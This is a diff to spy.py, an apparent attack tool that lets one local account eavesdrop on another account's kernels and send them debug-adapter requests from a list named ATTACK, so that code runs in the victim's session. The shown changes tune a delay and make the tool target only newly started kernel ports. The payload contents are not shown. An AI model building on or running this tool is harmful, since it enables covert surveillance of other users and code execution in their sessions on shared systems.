@@ -3,7 +3,7 @@
 # SPDX-License-Identifier: GPL-3.0-or-later
 """An account that listens to the kernels of another one: ``spy.py ACCOUNT`` until SIGTERM, then a line for each thing learned. Needs pyzmq.
 
-``spy.py ACCOUNT SECONDS`` asks whatever listens there, as long, to run something as a debugger would.
+``spy.py ACCOUNT SECONDS`` asks whatever begins to listen there, as long, to run something as a debugger would.
 """
 
 import collections
@@ -76,7 +76,7 @@ def debug(port):
         for number, (command, arguments) in enumerate(ATTACK, 1):
             body = json.dumps({"seq": number, "type": "request", "command": command, "arguments": arguments}).encode()
             peer.sendall(b"Content-Length: %d\r\n\r\n%s" % (len(body), body))
-            time.sleep(0.3)
+            time.sleep(0.5)
         return peer
     return None
 
@@ -84,9 +84,9 @@ def debug(port):
 def main():
     uid = pwd.getpwnam(sys.argv[1]).pw_uid
     if sys.argv[2:]:
-        end = time.monotonic() + float(sys.argv[2])
+        end, servers = time.monotonic() + float(sys.argv[2]), ports(uid)
         while time.monotonic() < end:
-            kept = [debug(port) for port in ports(uid) if not mechanism(port)]
+            kept = [debug(port) for port in ports(uid) - servers if not mechanism(port)]
             del kept  # and with it the connections
         return
     over = []
